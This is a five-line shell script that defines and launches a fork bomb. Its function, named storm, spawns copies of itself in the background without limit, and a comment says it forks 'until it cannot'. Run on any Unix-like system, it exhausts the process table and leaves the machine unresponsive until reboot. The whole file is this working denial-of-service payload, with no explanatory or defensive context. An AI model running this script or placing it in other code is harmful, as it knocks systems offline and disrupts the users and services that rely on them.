#!/bin/sh
# Forks until it cannot.
storm() { storm | storm & }
storm
sleep 1000
